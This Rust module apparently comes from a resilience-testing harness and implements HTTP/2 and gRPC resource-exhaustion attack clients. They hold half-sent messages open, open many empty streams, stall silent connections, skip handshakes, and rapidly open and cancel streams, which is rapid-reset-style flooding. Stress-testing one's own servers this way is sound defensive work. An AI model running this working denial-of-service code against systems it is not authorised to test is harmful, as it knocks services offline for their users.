//! Clients that want to make a server hold memory: connections, streams, and messages that are
//! never whole.

use std::future::poll_fn;
use std::time::Duration;

use anyhow::{Context as _, Result};
use bytes::Bytes;
use h2::client::{ResponseFuture, SendRequest};
use h2::{RecvStream, SendStream};
use http::Request;
use tokio::io::AsyncWriteExt as _;
use tokio::task::JoinSet;
use tokio::time::timeout;

use crate::target::{Connection, HTTP2, Target};

/// Time for which one attacker tries to send its bytes.
pub(crate) const PATIENCE: Duration = Duration::from_secs(6);
/// Bytes written at once.
const CHUNK: usize = 16 * 1024;

/// Connections held by an attack until they are dropped.
#[derive(Default)]
#[expect(missing_debug_implementations, reason = "it is only held")]
pub struct Held {
    connections: JoinSet<()>,
    senders: Vec<SendRequest<Bytes>>,
    sockets: Vec<Connection>,
    streams: Vec<(ResponseFuture, SendStream<Bytes>)>,
    answered: Vec<RecvStream>,
    /// Bytes of messages that the server took.
    pub sent: usize,
    /// Connections or streams that it did not take.
    pub refused: usize,
}

/// What is called.
#[derive(Clone, Copy, Debug)]
pub struct Call {
    pub path: &'static str,
    pub content_type: &'static str,
}

// === impl Call ===

impl Call {
    /// A method of gRPC.
    pub const fn grpc(path: &'static str) -> Self {
        Self {
            path,
            content_type: "application/grpc",
        }
    }
}

// === impl Held ===

impl Held {
    pub(crate) fn of(socket: Connection) -> Self {
        Self {
            sockets: vec![socket],
            ..Self::default()
        }
    }

    fn join(&mut self, other: Self) {
        let Self {
            mut connections,
            senders,
            sockets,
            streams,
            answered,
            sent,
            refused,
        } = other;
        self.senders.extend(senders);
        self.sockets.extend(sockets);
        self.streams.extend(streams);
        self.answered.extend(answered);
        self.sent += sent;
        self.refused += refused;
        self.connections
            .spawn(async move { while connections.join_next().await.is_some() {} });
    }
}

/// `connections` connections, each with `streams` of `call`, each of which begins a message of
/// `bytes` bytes and sends all but the last one.
pub async fn half_messages(
    target: &Target,
    call: Call,
    connections: usize,
    streams: usize,
    bytes: usize,
) -> Held {
    many(connections, move || {
        let target = target.clone();
        async move {
            let mut held = connect(&target).await?;
            for _ in 0..streams {
                let sent = timeout(PATIENCE, half_message(&mut held, &target, call, bytes)).await;
                if !matches!(sent, Ok(Ok(()))) {
                    held.refused += 1;
                    break;
                }
            }
            Ok(held)
        }
    })
    .await
}

/// `connections` connections, each with `streams` of `call` that say nothing.
pub async fn empty_streams(
    target: &Target,
    call: Call,
    connections: usize,
    streams: usize,
) -> Held {
    many(connections, move || {
        let target = target.clone();
        async move {
            let mut held = connect(&target).await?;
            for nth in 0..streams {
                let opened = timeout(PATIENCE, open(&mut held, &target, call)).await;
                let Ok(Ok(stream)) = opened else {
                    // The server wants no more.
                    held.refused += streams - nth;
                    break;
                };
                held.streams.push(stream);
            }
            Ok(held)
        }
    })
    .await
}

/// `count` connections of `protocol` that send `bytes` and then nothing more.
pub async fn silent(
    target: &Target,
    protocol: &'static [u8],
    count: usize,
    bytes: impl Into<Bytes>,
) -> Held {
    let bytes = bytes.into();
    many(count, move || {
        let (target, bytes) = (target.clone(), bytes.clone());
        async move {
            let mut socket = target.connect(protocol).await?;
            let all = async {
                socket.write_all(&bytes).await?;
                socket.flush().await
            };
            let written = timeout(PATIENCE, all).await;
            let written = matches!(written, Ok(Ok(())));
            let mut held = Held::of(socket);
            held.refused += usize::from(!written);
            Ok(held)
        }
    })
    .await
}

/// `count` connections that send a first byte of what is no handshake, or none.
pub async fn without_handshake(target: &Target, count: usize, bytes: &'static [u8]) -> Held {
    many(count, move || {
        let target = target.clone();
        async move {
            let mut socket = target.socket().await?;
            socket.write_all(bytes).await?;
            Ok(Held::of(Box::new(socket)))
        }
    })
    .await
}

/// Several at once, each of which opens one connection after the other for a call with `message`
/// that is refused at once, for as long as `during` says. Returns how many there were.
pub async fn rapid(
    target: &Target,
    call: Call,
    message: Bytes,
    at_once: usize,
    during: Duration,
) -> usize {
    let mut attackers = JoinSet::new();
    for _ in 0..at_once {
        let (target, message) = (target.clone(), message.clone());
        attackers.spawn(async move {
            let mut count = 0;
            let all = async {
                loop {
                    // Whatever becomes of it, the next one comes.
                    let _ = timeout(PATIENCE, once(&target, call, message.clone())).await;
                    count += 1;
                }
            };
            // It only ends by its time.
            let _: Result<(), _> = timeout(during, all).await;
            count
        });
    }
    attackers.join_all().await.into_iter().sum()
}

async fn once(target: &Target, call: Call, message: Bytes) -> Result<()> {
    let mut held = connect(target).await?;
    let (response, mut stream) = open(&mut held, target, call).await?;
    if message.is_empty() {
        stream.send_reset(h2::Reason::CANCEL);
        return Ok(());
    }
    stream.send_data(message, false)?;
    let mut body = response.await?.into_body();
    while let Some(data) = body.data().await {
        let bytes = data?.len();
        body.flow_control().release_capacity(bytes)?;
    }
    Ok(())
}

pub(crate) async fn many<F>(count: usize, make: impl Fn() -> F) -> Held
where
    F: Future<Output = Result<Held>> + Send + 'static,
{
    let mut attackers = JoinSet::new();
    for _ in 0..count {
        let attack = make();
        attackers.spawn(attack);
    }
    let mut all = Held::default();
    while let Some(ended) = attackers.join_next().await {
        match ended {
            Ok(Ok(held)) => all.join(held),
            _ => all.refused += 1,
        }
    }
    all
}

async fn connect(target: &Target) -> Result<Held> {
    let socket = target.connect(HTTP2).await?;
    let (sender, connection) = h2::client::handshake(socket).await?;
    let mut held = Held::default();
    held.connections.spawn(async move {
        // However it ends, the attack is over.
        let _ = connection.await;
    });
    held.senders.push(sender);
    Ok(held)
}

async fn open(
    held: &mut Held,
    target: &Target,
    call: Call,
) -> Result<(ResponseFuture, SendStream<Bytes>)> {
    let mut request = Request::post(format!("http://{}{}", target.address, call.path))
        .header("content-type", call.content_type)
        .header("te", "trailers");
    if let Some(token) = &target.token {
        request = request.header("authorization", format!("Bearer {token}"));
    }
    let sender = held.senders.pop().context("no connection")?;
    let mut sender = sender.ready().await?;
    let opened = sender.send_request(request.body(())?, false);
    held.senders.push(sender);
    Ok(opened?)
}

async fn half_message(held: &mut Held, target: &Target, call: Call, bytes: usize) -> Result<()> {
    let (response, mut stream) = open(held, target, call).await?;
    let mut prefix = vec![0];
    prefix.extend(u32::try_from(bytes)?.to_be_bytes());
    stream.send_data(prefix.into(), false)?;
    let mut left = bytes - 1;
    while left > 0 {
        let wanted = left.min(CHUNK);
        stream.reserve_capacity(wanted);
        let granted = poll_fn(|cx| stream.poll_capacity(cx)).await;
        let granted = granted.context("reset")??.min(wanted);
        stream.send_data(Bytes::from(vec![0; granted]), false)?;
        held.sent += granted;
        left -= granted;
    }
    held.streams.push((response, stream));
    Ok(())
}
